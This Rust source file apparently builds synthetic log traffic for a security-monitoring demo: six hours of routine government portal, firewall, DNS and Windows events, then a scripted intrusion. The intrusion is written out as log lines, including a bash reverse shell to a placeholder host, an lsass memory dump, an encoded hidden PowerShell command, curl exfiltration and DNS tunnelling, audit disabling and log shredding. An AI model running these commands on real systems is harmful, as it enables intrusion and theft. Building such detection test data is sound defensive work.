//! The demo's story: six hours of a state body's ordinary traffic, and within the last of them an
//! attack on its portal. A pure function of the seed and the end time.

use jiff::{SignedDuration, Timestamp, tz::TimeZone};
use serde_json::{Value, json};

use super::dice::Dice;

/// How a line travels.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Wire {
    /// Syslog over UDP, RFC 3164: firewall and name server.
    SyslogUdp,
    /// Syslog over TCP, RFC 5424: the portal's own logs.
    SyslogTcp,
    /// Elasticsearch `_bulk`: Windows computers with Winlogbeat.
    Bulk,
    /// Splunk HEC, raw: the portal's audit records, forwarded line by line.
    Hec,
}

/// One line of the story, ready to be sent.
#[derive(Debug, Clone)]
pub struct Line {
    pub at: Timestamp,
    pub wire: Wire,
    pub text: String,
}

/// The address the attack comes from (documentation range, RFC 5737).
pub const ATTACKER: &str = "203.0.113.24";
const DROP: &str = "198.51.100.77";
const PORTAL: &str = "portal-1";
const CONTROLLER: &str = "dc-1.gov.example";
const WORKPLACE: &str = "ws-17.gov.example";
const SYSMON: &str = "Microsoft-Windows-Sysmon/Operational";

/// The whole story, ordered by time, ending at `end`. About 20,000 lines.
pub fn story(seed: u64, end: Timestamp, zone: &TimeZone) -> Vec<Line> {
    let mut scribe = Scribe {
        dice: Dice::new(seed),
        lines: Vec::with_capacity(22_000),
        begin: end - SignedDuration::from_hours(6),
        zone: zone.clone(),
        audit_serial: 52_000,
        record_id: 880_000,
    };
    let steps: [fn(&mut Scribe); 9] = [
        everyday_portal,
        everyday_network,
        everyday_windows,
        reconnaissance,
        brute_force,
        web_shell,
        privilege_escalation,
        lateral_movement,
        exfiltration,
    ];
    for step in steps {
        step(&mut scribe);
    }
    let mut lines = scribe.lines;
    lines.sort_by_key(|line| line.at);
    lines
}

struct Scribe {
    dice: Dice,
    lines: Vec<Line>,
    begin: Timestamp,
    zone: TimeZone,
    audit_serial: u64,
    record_id: u64,
}

/// Milliseconds into the six hours; attacks are told on a fixed schedule.
const HOUR: i64 = 3_600_000;
const MINUTE: i64 = 60_000;
const DAY_LENGTH: i64 = 6 * HOUR;
/// The attack begins fifty minutes before the end.
const ATTACK: i64 = DAY_LENGTH - 50 * MINUTE;

impl Scribe {
    fn time(&self, ms: i64) -> Timestamp {
        self.begin + SignedDuration::from_millis(ms.min(DAY_LENGTH - 1))
    }

    fn any_time(&mut self) -> i64 {
        self.dice.below(DAY_LENGTH as u64) as i64
    }

    fn put(&mut self, ms: i64, wire: Wire, text: String) {
        let at = self.time(ms);
        self.lines.push(Line { at, wire, text });
    }

    /// RFC 5424, as rsyslog's forwarding template writes it.
    fn syslog(&mut self, ms: i64, priority: u8, host: &str, app: &str, pid: u32, message: &str) {
        let stamp = self
            .time(ms)
            .to_zoned(self.zone.clone())
            .strftime("%Y-%m-%dT%H:%M:%S.%3f%:z");
        let text = format!("<{priority}>1 {stamp} {host} {app} {pid} - - {message}");
        self.put(ms, Wire::SyslogTcp, text);
    }

    /// RFC 3164 in local time, as network equipment writes it.
    fn old_syslog(&mut self, ms: i64, priority: u8, host: &str, message: &str) {
        let stamp = self
            .time(ms)
            .to_zoned(self.zone.clone())
            .strftime("%b %e %H:%M:%S");
        let text = format!("<{priority}>{stamp} {host} {message}");
        self.put(ms, Wire::SyslogUdp, text);
    }

    fn web(&mut self, ms: i64, ip: &str, request: &str, status: u16, bytes: u64, agent: &str) {
        let stamp = self
            .time(ms)
            .to_zoned(self.zone.clone())
            .strftime("%d/%b/%Y:%H:%M:%S %z");
        let line =
            format!("{ip} - - [{stamp}] \"{request} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
        self.syslog(ms, 190, PORTAL, "nginx", 911, &line);
    }

    fn ssh(&mut self, ms: i64, message: &str) {
        let pid = 4000 + self.dice.below(20_000) as u32;
        self.syslog(ms, 38, PORTAL, "sshd", pid, message);
    }

    fn firewall(&mut self, ms: i64, from: &str, to: &str, port: u16, protocol: &str) {
        let source_port = 32_768 + self.dice.below(28_000);
        let id = self.dice.below(65_536);
        self.old_syslog(ms, 4, "gw-1", &format!(
            "kernel: FW-ACCEPT IN=eth1 OUT=eth0 SRC={from} DST={to} LEN=60 TOS=0x00 PREC=0x00 TTL=63 ID={id} DF PROTO={protocol} SPT={source_port} DPT={port}"
        ));
    }

    fn dns(&mut self, ms: i64, client: &str, kind: &str, name: &str) {
        self.old_syslog(
            ms,
            30,
            "ns-1",
            &format!("dnsmasq[611]: query[{kind}] {name} from {client}"),
        );
    }

    /// One `execve` as auditd writes it: SYSCALL, EXECVE, CWD, EOE.
    fn exec(&mut self, ms: i64, user: (&str, u32), exe: &str, argv: &[&str], folder: &str) {
        let (name, uid) = user;
        let comm: String = exe
            .rsplit('/')
            .next()
            .unwrap_or(exe)
            .chars()
            .take(15)
            .collect();
        let pid = 5000 + self.dice.below(20_000);
        let arguments: String = argv
            .iter()
            .enumerate()
            .map(|(at, argument)| format!(" a{at}={}", audit_text(argument)))
            .collect();
        self.audit(ms, &[
            format!("SYSCALL|arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8 a1=55d0d8 a2=55d0e8 a3=8 items=2 ppid=812 pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=(none) ses=3 comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"exec\"\u{1d}ARCH=x86_64 SYSCALL=execve AUID=\"{name}\" UID=\"{name}\" GID=\"{name}\" EUID=\"{name}\""),
            format!("EXECVE|argc={}{arguments}", argv.len()),
            format!("CWD|cwd=\"{folder}\""),
            "EOE|".to_owned(),
        ]);
    }

    fn open(&mut self, ms: i64, user: (&str, u32), exe: &str, path: &str, kind: &str) {
        let (name, uid) = user;
        let comm = exe.rsplit('/').next().unwrap_or(exe);
        let pid = 5000 + self.dice.below(20_000);
        self.audit(ms, &[
            format!("SYSCALL|arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd a2=241 a3=1b6 items=1 ppid=812 pid={pid} auid={uid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=3 comm=\"{comm}\" exe=\"{exe}\" subj=unconfined key=\"files\"\u{1d}ARCH=x86_64 SYSCALL=openat AUID=\"{name}\" UID=\"{name}\""),
            "CWD|cwd=\"/\"".to_owned(),
            format!("PATH|item=0 name=\"{path}\" inode=131 dev=fe:00 mode=0100640 ouid=0 ogid=42 rdev=00:00 nametype={kind}"),
            "EOE|".to_owned(),
        ]);
    }

    fn audit(&mut self, ms: i64, records: &[String]) {
        self.audit_serial += 1;
        let at = self.time(ms);
        let stamp = format!(
            "{}.{:03}:{}",
            at.as_second(),
            at.as_millisecond().rem_euclid(1000),
            self.audit_serial
        );
        for record in records {
            let (kind, rest) = record.split_once('|').unwrap_or((record, ""));
            self.put(
                ms,
                Wire::Hec,
                format!("node={PORTAL} type={kind} msg=audit({stamp}): {rest}"),
            );
        }
    }

    /// A Winlogbeat document.
    fn windows(
        &mut self,
        ms: i64,
        host: &str,
        channel: &str,
        provider: &str,
        id: u32,
        data: Value,
    ) {
        self.record_id += 1;
        let key = if id == 1102 {
            "user_data"
        } else {
            "event_data"
        };
        let mut log = json!({
            "channel": channel,
            "provider_name": provider,
            "event_id": id.to_string(),
            "record_id": self.record_id.to_string(),
            "computer_name": host,
            "api": "wineventlog",
        });
        log[key] = data;
        let document = json!({
            "@timestamp": self.time(ms).to_string(),
            "event": {"code": id.to_string(), "provider": provider, "kind": "event"},
            "host": {"name": host},
            "agent": {"type": "winlogbeat", "version": "8.19.0"},
            "winlog": log,
        });
        self.put(ms, Wire::Bulk, document.to_string());
    }

    fn security(&mut self, ms: i64, host: &str, id: u32, data: Value) {
        self.windows(
            ms,
            host,
            "Security",
            "Microsoft-Windows-Security-Auditing",
            id,
            data,
        );
    }

    fn process(
        &mut self,
        ms: i64,
        host: &str,
        image: &str,
        command: &str,
        parent: &str,
        user: &str,
    ) {
        let pid = 1000 + self.dice.below(20_000);
        let file = image.rsplit('\\').next().unwrap_or(image);
        let time = self.time(ms).strftime("%Y-%m-%d %H:%M:%S.%3f").to_string();
        self.windows(ms, host, SYSMON, "Microsoft-Windows-Sysmon", 1, json!({
            "UtcTime": time, "ProcessId": pid.to_string(), "Image": image, "OriginalFileName": file,
            "CommandLine": command, "CurrentDirectory": "C:\\Windows\\system32\\", "User": user,
            "ParentProcessId": "812", "ParentImage": parent, "ParentCommandLine": parent,
        }));
    }
}

/// auditd writes arguments in quotes, or in hexadecimal where they hold blanks or quotes.
fn audit_text(argument: &str) -> String {
    if argument
        .bytes()
        .all(|byte| byte.is_ascii_graphic() && byte != b'"')
    {
        return format!("\"{argument}\"");
    }
    argument.bytes().map(|byte| format!("{byte:02X}")).collect()
}

const BROWSERS: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/142.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 Mobile Safari/604.1",
    "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 Chrome/142.0 Mobile Safari/537.36",
];
const PAGES: [&str; 10] = [
    "/",
    "/kk/services",
    "/ru/services",
    "/en/services",
    "/kk/services/certificate?step=1",
    "/ru/news/2026/11",
    "/static/app.css",
    "/static/app.js",
    "/kk/contacts",
    "/api/queue/status",
];
const NAMES: [&str; 8] = [
    "portal.gov.example",
    "mail.gov.example",
    "time.gov.example",
    "egov.example",
    "deb.example.org",
    "update.example.com",
    "cdn.example.net",
    "weather.example",
];

fn everyday_portal(scribe: &mut Scribe) {
    for _ in 0..8_200 {
        let ms = scribe.any_time();
        let ip = format!("192.0.2.{}", 1 + scribe.dice.below(254));
        let page = *scribe.dice.pick(&PAGES);
        let agent = *scribe.dice.pick(&BROWSERS);
        let status = *scribe
            .dice
            .pick(&[200, 200, 200, 200, 200, 200, 304, 302, 404]);
        let bytes = 300 + scribe.dice.below(40_000);
        scribe.web(ms, &ip, &format!("GET {page}"), status, bytes, agent);
    }
    for _ in 0..300 {
        let ms = scribe.any_time();
        let port = 30_000 + scribe.dice.below(30_000);
        scribe.ssh(ms, &format!(
            "Accepted publickey for deploy from 10.20.0.9 port {port} ssh2: ED25519 SHA256:9yWk1Pp0sQdB"
        ));
        scribe.ssh(
            ms + 40,
            "pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)",
        );
    }
    for _ in 0..150 {
        let ms = scribe.any_time();
        scribe.syslog(ms, 85, PORTAL, "sudo", 7001,
            "deploy : TTY=pts/0 ; PWD=/srv/portal ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx");
    }
    for _ in 0..330 {
        let ms = scribe.any_time();
        let (exe, argv): (&str, &[&str]) = *scribe.dice.pick(&[
            ("/usr/bin/ls", &["ls", "-l", "/srv/portal"] as &[&str]),
            ("/usr/bin/systemctl", &["systemctl", "is-active", "nginx"]),
            (
                "/usr/bin/rsync",
                &["rsync", "-a", "/srv/portal/", "/srv/backup/"],
            ),
            ("/usr/bin/date", &["date", "+%s"]),
        ]);
        scribe.exec(ms, ("deploy", 1002), exe, argv, "/srv/portal");
    }
}

fn everyday_network(scribe: &mut Scribe) {
    for _ in 0..2_600 {
        let ms = scribe.any_time();
        let from = format!("10.20.4.{}", 2 + scribe.dice.below(240));
        let to = format!("192.0.2.{}", 1 + scribe.dice.below(254));
        let port = *scribe.dice.pick(&[443u16, 443, 443, 80, 123, 53, 993]);
        let protocol = if matches!(port, 53 | 123) {
            "UDP"
        } else {
            "TCP"
        };
        scribe.firewall(ms, &from, &to, port, protocol);
    }
    for _ in 0..2_600 {
        let ms = scribe.any_time();
        let client = format!("10.20.4.{}", 2 + scribe.dice.below(240));
        let kind = *scribe.dice.pick(&["A", "A", "AAAA"]);
        let name = *scribe.dice.pick(&NAMES);
        scribe.dns(ms, &client, kind, name);
    }
}

fn everyday_windows(scribe: &mut Scribe) {
    for _ in 0..900 {
        let ms = scribe.any_time();
        let user = *scribe
            .dice
            .pick(&["a.serik", "b.aliya", "d.nurlan", "svc_print"]);
        let address = format!("10.20.4.{}", 2 + scribe.dice.below(240));
        let logon = format!("0x{:x}", scribe.dice.below(1 << 32));
        scribe.security(
            ms,
            CONTROLLER,
            4624,
            json!({
                "TargetUserName": user, "TargetDomainName": "GOV", "TargetLogonId": logon,
                "LogonType": "3", "IpAddress": address, "WorkstationName": "-",
            }),
        );
        scribe.security(ms + 90_000, CONTROLLER, 4634, json!({
            "TargetUserName": user, "TargetDomainName": "GOV", "TargetLogonId": logon, "LogonType": "3",
        }));
    }
    for _ in 0..500 {
        let ms = scribe.any_time();
        let (image, command) = *scribe.dice.pick(&[
            (
                "C:\\Windows\\System32\\svchost.exe",
                "svchost.exe -k netsvcs -p",
            ),
            (
                "C:\\Program Files\\LibreOffice\\program\\soffice.exe",
                "soffice.exe --writer",
            ),
            (
                "C:\\Windows\\System32\\backgroundTaskHost.exe",
                "backgroundTaskHost.exe",
            ),
        ]);
        scribe.process(
            ms,
            WORKPLACE,
            image,
            command,
            "C:\\Windows\\explorer.exe",
            "GOV\\a.serik",
        );
    }
}

fn reconnaissance(scribe: &mut Scribe) {
    let probes = [
        "/.env",
        "/.git/config",
        "/backup.sql",
        "/wp-config.php.bak",
        "/admin",
        "/download?file=../../../../etc/passwd",
        "/search?q=1%27%20or%20%271%27=%271",
        "/item?id=1+union+select+1,2,3",
        "/?x=%3Cscript%3Ealert(1)%3C/script%3E",
    ];
    for at in 0..270 {
        let probe = probes[at as usize % probes.len()];
        let ms = ATTACK + at * 900;
        scribe.web(
            ms,
            ATTACKER,
            &format!("GET {probe}"),
            404,
            162,
            "sqlmap/1.8.2#stable (https://sqlmap.org)",
        );
    }
    scribe.firewall(ATTACK + 20_000, ATTACKER, "10.20.0.30", 5432, "TCP");
    scribe.firewall(ATTACK + 21_000, ATTACKER, "10.20.4.17", 3389, "TCP");
}

fn brute_force(scribe: &mut Scribe) {
    let begin = ATTACK + 5 * MINUTE;
    for at in 0..640 {
        scribe.web(
            begin + at * 700,
            ATTACKER,
            "POST /login",
            401,
            88,
            "python-requests/2.32",
        );
    }
    for at in 0..220 {
        let name = *scribe
            .dice
            .pick(&["root", "admin", "oracle", "test", "portal"]);
        let port = 40_000 + at;
        let ms = begin + at * 1_500;
        if matches!(name, "root" | "portal") {
            scribe.ssh(
                ms,
                &format!("Failed password for {name} from {ATTACKER} port {port} ssh2"),
            );
        } else {
            scribe.ssh(
                ms,
                &format!("Invalid user {name} from {ATTACKER} port {port}"),
            );
        }
    }
    scribe.web(
        begin + 8 * MINUTE,
        ATTACKER,
        "POST /login",
        302,
        0,
        "python-requests/2.32",
    );
}

fn web_shell(scribe: &mut Scribe) {
    let begin = ATTACK + 14 * MINUTE;
    let account = ("www-data", 33);
    scribe.web(
        begin,
        ATTACKER,
        "PUT /uploads/photo_14.php",
        201,
        0,
        "python-requests/2.32",
    );
    for (at, command) in ["id", "uname+-a", "ls+-la+/var/www", "cat+/etc/passwd"]
        .iter()
        .enumerate()
    {
        let ms = begin + 20_000 + at as i64 * 9_000;
        scribe.web(
            ms,
            ATTACKER,
            &format!("GET /uploads/photo_14.php?cmd={command}"),
            200,
            412,
            "curl/8.5.0",
        );
        scribe.exec(
            ms + 50,
            account,
            "/usr/bin/dash",
            &["sh", "-c", &command.replace('+', " ")],
            "/var/www/portal/uploads",
        );
    }
    scribe.exec(
        begin + MINUTE,
        account,
        "/usr/bin/bash",
        &[
            "bash",
            "-c",
            &format!("bash -i >& /dev/tcp/{DROP}/4444 0>&1"),
        ],
        "/var/www/portal/uploads",
    );
    scribe.firewall(begin + MINUTE + 30, "10.20.0.20", DROP, 4444, "TCP");
    scribe.exec(
        begin + 2 * MINUTE,
        account,
        "/dev/shm/.x/agent",
        &["/dev/shm/.x/agent", "--connect"],
        "/dev/shm/.x",
    );
}

fn privilege_escalation(scribe: &mut Scribe) {
    let begin = ATTACK + 19 * MINUTE;
    let root = ("root", 0);
    scribe.syslog(begin, 85, PORTAL, "sudo", 7042,
        "www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/id");
    scribe.exec(
        begin + 40_000,
        root,
        "/usr/bin/chmod",
        &["chmod", "u+s", "/usr/local/bin/find2"],
        "/root",
    );
    scribe.open(
        begin + 55_000,
        root,
        "/usr/bin/cat",
        "/etc/shadow",
        "NORMAL",
    );
    scribe.syslog(
        begin + 80_000,
        86,
        PORTAL,
        "useradd",
        7050,
        "new user: name=svc-sync, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
    );
    scribe.syslog(
        begin + 82_000,
        86,
        PORTAL,
        "usermod",
        7051,
        "add 'svc-sync' to group 'sudo'",
    );
    scribe.open(
        begin + 95_000,
        root,
        "/usr/bin/bash",
        "/etc/cron.d/sync",
        "CREATE",
    );
    scribe.exec(
        begin + 110_000,
        root,
        "/usr/sbin/auditctl",
        &["auditctl", "-e", "0"],
        "/root",
    );
}

fn lateral_movement(scribe: &mut Scribe) {
    let begin = ATTACK + 25 * MINUTE;
    for at in 0..60 {
        scribe.security(
            begin + at * 1_000,
            CONTROLLER,
            4625,
            json!({
                "TargetUserName": "administrator", "TargetDomainName": "GOV", "LogonType": "3",
                "IpAddress": "10.20.0.20", "Status": "0xc000006d", "SubStatus": "0xc000006a",
            }),
        );
    }
    let ms = begin + 2 * MINUTE;
    scribe.security(ms, CONTROLLER, 4624, json!({
        "TargetUserName": "administrator", "TargetDomainName": "GOV", "TargetLogonId": "0x7a11c",
        "LogonType": "3", "IpAddress": "10.20.0.20", "WorkstationName": "PORTAL-1",
    }));
    scribe.windows(ms + 4_000, CONTROLLER, "System", "Service Control Manager", 7045, json!({
        "ServiceName": "wsync", "ImagePath": "%COMSPEC% /c C:\\Temp\\run.bat",
        "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem",
    }));
    let system = "NT AUTHORITY\\SYSTEM";
    let services = "C:\\Windows\\System32\\services.exe";
    scribe.process(
        ms + 6_000,
        CONTROLLER,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        services,
        system,
    );
    scribe.process(
        ms + 9_000,
        CONTROLLER,
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full",
        "C:\\Windows\\PSEXESVC.exe",
        system,
    );
    scribe.process(
        ms + 20_000,
        CONTROLLER,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
        "C:\\Windows\\PSEXESVC.exe",
        system,
    );
    scribe.security(ms + 30_000, CONTROLLER, 4720, json!({
        "TargetUserName": "svc_sync", "SubjectUserName": "administrator", "SubjectDomainName": "GOV",
    }));
    scribe.security(ms + 31_000, CONTROLLER, 4732, json!({
        "MemberSid": "S-1-5-21-1004336348-1177238915-682003330-1188", "TargetUserName": "Administrators",
        "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544", "SubjectUserName": "administrator",
    }));
}

fn exfiltration(scribe: &mut Scribe) {
    let begin = ATTACK + 34 * MINUTE;
    scribe.web(
        begin,
        ATTACKER,
        "GET /admin/export?table=citizens",
        200,
        734_003_200,
        "curl/8.5.0",
    );
    scribe.exec(
        begin + 30_000,
        ("www-data", 33),
        "/usr/bin/curl",
        &[
            "curl",
            "-T",
            "/dev/shm/.x/citizens.tar.gz",
            "https://drop.example.net/u/",
        ],
        "/dev/shm/.x",
    );
    for at in 0..160 {
        let label: String = (0..52)
            .map(|_| *scribe.dice.pick(b"abcdefghijklmnopqrstuvwxyz234567") as char)
            .collect();
        scribe.dns(
            begin + MINUTE + at * 400,
            "10.20.0.20",
            "TXT",
            &format!("{label}.t.drop.example.net"),
        );
    }
    scribe.firewall(begin + 3 * MINUTE, "10.20.0.20", DROP, 445, "TCP");
    scribe.exec(
        begin + 5 * MINUTE,
        ("root", 0),
        "/usr/bin/shred",
        &["shred", "-u", "/var/log/auth.log"],
        "/root",
    );
    scribe.windows(
        begin + 6 * MINUTE,
        CONTROLLER,
        "Security",
        "Microsoft-Windows-Eventlog",
        1102,
        json!({
            "SubjectUserName": "administrator", "SubjectDomainName": "GOV",
        }),
    );
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_story_is_the_same_each_time_and_about_twenty_thousand_lines() {
        let end: Timestamp = "2026-11-21T09:00:00Z".parse().unwrap();
        let zone = TimeZone::fixed(jiff::tz::offset(5));
        let first = story(7, end, &zone);
        let second = story(7, end, &zone);
        assert!(
            (18_000..24_000).contains(&first.len()),
            "{} lines",
            first.len()
        );
        assert!(
            first
                .iter()
                .zip(&second)
                .all(|(a, b)| a.text == b.text && a.at == b.at)
        );
        assert!(first.windows(2).all(|pair| pair[0].at <= pair[1].at));
        assert!(first.last().unwrap().at < end);
        assert_ne!(first[0].text, story(8, end, &zone)[0].text);
    }
}
